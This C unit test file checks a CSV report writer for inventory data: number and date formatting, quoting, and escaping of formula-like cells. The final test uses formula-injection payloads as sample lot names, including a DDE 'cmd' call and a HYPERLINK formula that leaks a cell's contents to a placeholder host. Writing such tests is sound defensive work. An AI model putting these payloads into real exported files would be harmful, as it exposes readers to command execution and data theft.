#include <criterion/criterion.h>
#include <criterion/new/assert.h>
#include <stdio.h>

#include "report/tables.h"

#define REPORT_KEYS                                                                      \
 "place,item,channel,unit,opening,received,returned,issued,dispensed,transferred_in,"    \
 "transferred_out,lost,adjusted,closing,held,days_out,amc,months,status,to_order\n"

/* amc 2469/2 is rounded half up to 1235, months -47/3 to -15.7; undefined is empty. */
static const char report[] =
    REPORT_KEYS "tyt-05518,bcs,free,piece,1200,1440,-12,288,1000000,0,0,3,-7,1234567,0,2,"
                "1235,-15.7,low,"
                "1440\n"
                "tyt-05518,vien,free,vỉ,0,0,0,0,0,0,0,0,0,0,0,0,,,unknown,0\n";

Test(write_csv, codes_plain_numbers_and_the_english_unit_in_either_language)
{
    kho_table *table = tables_report();

    tables_expect(table, KHO_CSV, KHO_VI, report);
    tables_expect(table, KHO_CSV, KHO_EN, report);
    kho_table_free(table);
}

Test(write_csv, dates_are_iso_and_what_is_not_there_is_empty)
{
    kho_table *table = tables_alerts();

    tables_expect(table, KHO_CSV, KHO_VI,
        "severity,alert,place,item,channel,lot,expiry,quantity,months,to_order,since\n"
        "2,expired,tyt-05518,bcs,social_marketing,'=1+1<i>,2026-10-31,96,5.0,,2026-11-"
        "01\n"
        "3,late_report,ctv-01,,,,,,,,2026-11-06\n");
    kho_table_free(table);
}

Test(write_csv, no_rows_give_the_header_only)
{
    kho_table *table = tables_lots(NULL, 0);

    tables_expect(table, KHO_CSV, KHO_EN, "item,lot,expiry,channel\n");
    kho_table_free(table);
}

Test(write_csv, quotes_stand_only_where_a_reader_needs_them)
{
    static const struct {
        const char *lot, *cell;
    } cases[] = {
        {"A12",     "A12"          },
        {"",        ""             },
        {"Lô 7/2", "Lô 7/2"      },
        {"a,b",     "\"a,b\""      },
        {"6\" x 7", "\"6\"\" x 7\""},
        {"\"",      "\"\"\"\""     },
        {"a\nb",    "\"a\nb\""     },
        {"a\r",     "\"a\r\""      },
        {" a",      "\" a\""       },
        {"a\t",     "\"a\t\""      },
        {"a;b'c",   "a;b'c"        },
    };

    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        kho_table *table = tables_lots(&cases[i].lot, 1);
        char expected[128];

        snprintf(expected, sizeof(expected), "item,lot,expiry,channel\n,%s,,\n",
            cases[i].cell);
        tables_expect(table, KHO_CSV, KHO_EN, expected);
        kho_table_free(table);
    }
}

Test(write_csv, a_lot_that_looks_like_a_formula_has_an_apostrophe_before_it)
{
    static const char *const lots[] = {"=1+1", "+1+1", "-1+1", "@SUM(A1)", "-5", "=",
        "'=1+1", "=cmd|'/c calc'!A0", "＝1+1",
        "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"x\")"};
    kho_table *table = tables_lots(lots, sizeof(lots) / sizeof(*lots));

    tables_expect(table, KHO_CSV, KHO_EN,
        "item,lot,expiry,channel\n,'=1+1,,\n,'+1+1,,\n,'-1+1,,\n,'@SUM(A1),,\n,'-5,,\n"
        ",'=,,\n,''=1+1,,\n,'=cmd|'/c calc'!A0,,\n,'＝1+1,,\n"
        ",\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\"x\"\")\",,\n");
    kho_table_free(table);
}
